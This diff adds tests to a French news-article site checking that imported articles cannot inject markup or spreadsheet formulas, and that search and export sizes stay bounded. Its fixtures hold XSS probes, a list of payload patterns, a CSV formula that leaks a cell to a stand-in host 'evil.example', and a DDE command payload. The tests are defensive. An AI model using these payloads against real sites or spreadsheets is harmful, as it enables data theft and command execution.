@@ -294,3 +294,312 @@ def test_every_public_page_is_covered_by_the_hostile_input_test():
             f"{name} is not driven by the hostile-input test", pytest.PytestWarning, stacklevel=1
         )
     assert covered & public
+
+
+# --- Hostile content: markup in an imported article is text everywhere it is shown ------------
+
+HOSTILE_HTML = """<!DOCTYPE html>
+<html lang="fr"><head><meta charset="utf-8">
+<title>&lt;script&gt;alert("titre")&lt;/script&gt; La coalition à Rome
+&lt;img src=x onerror=alert(1)&gt;</title>
+<meta name="description" content="&lt;script&gt;alert('description')&lt;/script&gt; Daech">
+<meta name="author" content="&lt;b onmouseover=alert(3)&gt;Auteur&lt;/b&gt;">
+<script>alert("script de la page source")</script>
+<style>body { background: url(javascript:alert(4)) }</style>
+</head><body onload="alert(5)">
+<h1>&lt;script&gt;alert("titre")&lt;/script&gt; La coalition à Rome
+&lt;img src=x onerror=alert(1)&gt;</h1>
+<p class="meta"><time datetime="2021-06-28">28 juin 2021</time></p>
+<div class="body">
+<p>Rome, 28 juin 2021 - Les ministres de la coalition mondiale contre Daech se sont réunis à
+Rome. &lt;script&gt;alert("corps")&lt;/script&gt; Le texte contient aussi
+&lt;a href="javascript:alert(6)"&gt;un lien piégé&lt;/a&gt; et
+<a href="javascript:alert(7)">un vrai lien javascript</a>.</p>
+<p>Balisage cassé : <b>gras non fermé <i>italique <p>paragraphe
+&lt;scr&lt;script&gt;ipt&gt;alert(8)&lt;/scr&lt;/script&gt;ipt&gt; ]]&gt; --&gt; &lt;/textarea&gt;
+&lt;!-- {{ secret }} {% csrf_token %} &lt;svg onload=alert(9)&gt;</p>
+<p>« Nous resterons unis face à la menace terroriste », a déclaré le ministre. La coalition
+poursuit la stabilisation des zones libérées en Irak et en Syrie.</p>
+<p>Les participants ont évoqué le sort des combattants étrangers détenus dans le nord-est de la
+Syrie et la menace croissante du groupe en Afrique, notamment au Sahel.</p>
+</div></body></html>
+""".encode()
+
+FORMULA_TEXT = """=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez ici") coalition Rome
+
++cmd|' /C calc'!A0 Rome, 28 juin 2021 - La coalition mondiale contre Daech s'est réunie à Rome
+pour évoquer la stabilisation des zones libérées et le financement des programmes.
+
+-2+3 @SUM(1+1) Les ministres ont également discuté des combattants étrangers détenus en Syrie
+et de la menace du groupe en Afrique.
+""".encode()
+
+# Each is markup the file carried as text: it must never reach a page as markup.
+RAW_PAYLOADS = [
+    "<script>alert(",
+    "<img src=x onerror",
+    'href="javascript:',
+    "<svg onload",
+    "<scr<script>",
+    "--> </textarea>",
+    "<b onmouseover",
+    "<!-- {{",
+]
+
+
+def assert_shown_as_text(html: str, where: str) -> None:
+    from tests.test_production import inline_code
+
+    for payload in RAW_PAYLOADS:
+        assert payload not in html, f"{payload!r} reached {where} as markup"
+    assert inline_code(html) == [], where
+
+
+@pytest.fixture
+def hostile_articles(search_index):
+    from articles.importers import import_article
+    from articles.models import Article, ArticleMeeting, Meeting
+
+    meeting = Meeting.objects.get(slug="rome-2021")
+    articles = []
+    for filename, raw in [("piege.html", HOSTILE_HTML), ("formules.txt", FORMULA_TEXT)]:
+        result = import_article(raw=raw, filename=filename, status=Article.Status.PUBLISHED)
+        assert result.article is not None, result.message
+        ArticleMeeting.objects.get_or_create(article=result.article, meeting=meeting)
+        articles.append(Article.objects.get(pk=result.article.pk))
+    search_index.drain()
+    assert "<script>" in articles[0].title and "<script>" in articles[0].body
+    return articles
+
+
+def test_hostile_markup_is_text_on_every_public_page(client, hostile_articles):
+    hostile, formula = hostile_articles
+    pages = [
+        "/",
+        hostile.get_absolute_url(),
+        formula.get_absolute_url(),
+        "/reunions/rome-2021/",
+        "/reunions/rome-2021/comparaison/",
+        "/recherche/?q=coalition",
+        "/recherche/?q=Rome+Daech",
+        "/recherche/?q=alert",
+        "/recherche/?q=%22coalition+mondiale%22",
+    ]
+    for person_link in hostile.person_links.all():
+        pages.append(person_link.person.get_absolute_url())
+    if hostile.source:
+        pages.append(hostile.source.get_absolute_url())
+    for url in pages:
+        response = client.get(url)
+        assert response.status_code == 200, url
+        html = response.content.decode()
+        assert_shown_as_text(html, url)
+        if url != "/recherche/?q=coalition":
+            continue
+        assert "&lt;script&gt;alert(" in html, "the title is shown, as text"
+
+
+def test_the_article_page_shows_the_markup_as_text(client, hostile_articles):
+    html = client.get(hostile_articles[0].get_absolute_url()).content.decode()
+    assert "&lt;script&gt;alert(&quot;titre&quot;)&lt;/script&gt;" in html
+    assert "&lt;svg onload=alert(9)&gt;" in html
+    assert "un vrai lien javascript" in html  # the text of a real javascript: link, not the link
+
+
+def test_hostile_markup_is_text_in_every_admin_page(admin_client, hostile_articles):
+    from tests.test_production import admin_pages
+
+    for url in admin_pages(hostile_articles[0]):
+        response = admin_client.get(url)
+        if response.status_code != 200 or not response["Content-Type"].startswith("text/html"):
+            continue
+        assert_shown_as_text(response.content.decode(), url)
+
+
+def test_hostile_markup_is_text_in_the_atom_feed(client, hostile_articles):
+    from xml.etree import ElementTree
+
+    response = client.get("/recherche/flux/", {"q": "coalition Rome"})
+    assert response.status_code == 200
+    feed = ElementTree.fromstring(response.content)  # well-formed despite ]]> and --> in the text
+    atom = "{http://www.w3.org/2005/Atom}"
+    titles = [entry.findtext(f"{atom}title") for entry in feed.iter(f"{atom}entry")]
+    assert hostile_articles[0].title in titles  # the title, as text
+    for entry in feed.iter(f"{atom}entry"):
+        for element in entry:
+            if element.get("type") == "html" and element.text:
+                # HTML carried in the feed: the reader renders it, so it must be inert.
+                assert_shown_as_text(element.text, f"feed {element.tag}")
+
+
+def test_hostile_markup_is_inert_in_the_json_export(client, hostile_articles):
+    import json
+
+    response = client.get("/recherche/", {"q": "coalition Rome", "format": "json"})
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("application/json")
+    assert response["X-Content-Type-Options"] == "nosniff"
+    data = json.loads(response.content)
+
+    def strings(node, key=""):
+        if isinstance(node, dict):
+            for child_key, value in node.items():
+                yield from strings(value, child_key)
+        elif isinstance(node, list):
+            for value in node:
+                yield from strings(value, key)
+        elif isinstance(node, str):
+            yield key, node
+
+    found = list(strings(data))
+    assert any(value == hostile_articles[0].title for _, value in found)
+    for key, value in found:
+        if "html" in key:
+            assert_shown_as_text(value, f"JSON {key}")
+
+
+def test_spreadsheet_formulas_are_neutralised_in_the_csv_export(client, hostile_articles):
+    import csv
+    import io
+
+    response = client.get("/recherche/", {"q": "coalition Rome", "format": "csv"})
+    assert response.status_code == 200
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert len(rows) >= 3, rows
+    assert any("HYPERLINK" in cell for row in rows for cell in row)
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_citation_exports_are_never_served_as_html(client, hostile_articles):
+    for export in ["bib", "ris", "json"]:
+        response = client.get(f"{hostile_articles[0].get_absolute_url()}citation.{export}")
+        if response.status_code == 404:
+            response = client.get(
+                reverse(
+                    "articles:article-citation",
+                    kwargs={"slug": hostile_articles[0].slug, "format": export},
+                )
+            )
+        assert response.status_code == 200, export
+        assert not response["Content-Type"].startswith("text/html"), export
+        assert response["X-Content-Type-Options"] == "nosniff"
+
+
+# --- Abuse limits: what one request can make the engine do is bounded ------------------------
+
+
+@pytest.fixture
+def many_articles(search_index):
+    """Enough matching articles to overflow a small page or a small export limit."""
+    from articles.models import Meeting
+
+    meeting = Meeting.objects.get(slug="rome-2021")
+    for number in range(12):
+        article = ArticleFactory(
+            title=f"Bilan de la coalition, volet {number}",
+            body=f"La coalition mondiale contre Daech publie le volet {number} de son bilan.",
+        )
+        ArticleMeetingFactory(article=article, meeting=meeting)
+    search_index.drain()
+    return search_index
+
+
+def json_search(client, **query):
+    import json
+
+    response = client.get("/recherche/", {**query, "format": "json"})
+    assert response.status_code == 200, response.content[:300]
+    return json.loads(response.content)
+
+
+def test_a_10_kb_query_is_cut_to_the_maximum_length_with_a_notice(client, many_articles):
+    from articles import search
+    from articles.query_syntax import MAX_QUERY_LENGTH
+
+    huge_query = "coalition " * 1_024
+    params = search.parse({"q": huge_query})
+    assert len(params.q) <= MAX_QUERY_LENGTH
+    assert any("trop longue" in notice for notice in params.notices)
+    response = client.get("/recherche/", {"q": huge_query})
+    assert response.status_code == 200
+    assert "trop longue" in response.content.decode()
+
+
+def test_a_query_keeps_at_most_thirty_terms(client, many_articles):
+    from articles import search
+    from articles.query_syntax import MAX_TERMS, leaves
+
+    params = search.parse({"q": " ".join(f"mot{number}" for number in range(200))})
+    assert sum(1 for _ in leaves(params.query.tree)) <= MAX_TERMS
+
+
+def test_short_prefixes_are_refused_so_a_wildcard_never_expands_to_the_whole_lexicon(
+    client, many_articles
+):
+    from articles import search
+    from articles.query_syntax import MIN_PREFIX_LENGTH, Prefix, leaves
+
+    for query in ["a*", "co*", "* coalition", "c* o* a*"]:
+        params = search.parse({"q": query})
+        prefixes = [leaf for leaf, _ in leaves(params.query.tree) if isinstance(leaf, Prefix)]
+        assert all(len(leaf.text) >= MIN_PREFIX_LENGTH for leaf in prefixes), query
+        assert client.get("/recherche/", {"q": query}).status_code == 200
+    params = search.parse({"q": " ".join(f"coa{chr(97 + n % 26)}*" for n in range(100))})
+    assert sum(1 for _ in leaves(params.query.tree)) <= 30
+
+
+def test_the_page_size_and_page_number_are_capped(client, many_articles):
+    from articles import search
+
+    params = search.parse({"par_page": "1000000", "page": str(10**12)})
+    assert params.per_page == search.MAX_PER_PAGE
+    assert params.page == search.MAX_PAGE
+    data = json_search(client, q="coalition", par_page="1000000")
+    assert len(str(data)) < 1_000_000
+    assert data["total"] >= 12
+    for negative in ["-5", "0", "abc", "1e9"]:
+        assert search.parse({"par_page": negative, "page": negative}).page == 1
+
+
+def test_facet_values_are_capped_in_number_and_length(client, many_articles):
+    from django.http import QueryDict
+
+    from articles import search
+
+    query = QueryDict(mutable=True)
+    query.setlist("lieu", [f"ville-{number}-" + "x" * 500 for number in range(200)])
+    params = search.parse(query)
+    assert all(len(values) <= search.MAX_VALUES_PER_FACET for values in params.selected.values())
+    response = client.get("/recherche/?" + query.urlencode())
+    assert response.status_code == 200
+
+
+def test_the_csv_export_is_streamed_and_bounded(client, many_articles, monkeypatch):
+    import csv
+    import io
+
+    from articles.views import search as search_views
+
+    response = client.get("/recherche/", {"q": "coalition", "format": "csv"})
+    assert response.streaming, "a large export must not be built in memory"
+    full = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    assert len(full) - 1 >= 12
+    monkeypatch.setattr(search_views, "CSV_MAX_ROWS", 5)
+    response = client.get("/recherche/", {"q": "coalition", "format": "csv"})
+    bounded = b"".join(response.streaming_content).decode("utf-8-sig")
+    assert len(list(csv.reader(io.StringIO(bounded), delimiter=";"))) - 1 == 5
+    assert search_views.CSV_MAX_ROWS <= 10_000  # the default stays a bound, not a dump
+
+
+def test_the_feed_is_bounded(client, many_articles, monkeypatch):
+    from xml.etree import ElementTree
+
+    from articles.views import search as search_views
+
+    monkeypatch.setattr(search_views, "FEED_SIZE", 3)
+    response = client.get("/recherche/flux/", {"q": "coalition"})
+    entries = ElementTree.fromstring(response.content).findall("{http://www.w3.org/2005/Atom}entry")
+    assert len(entries) == 3
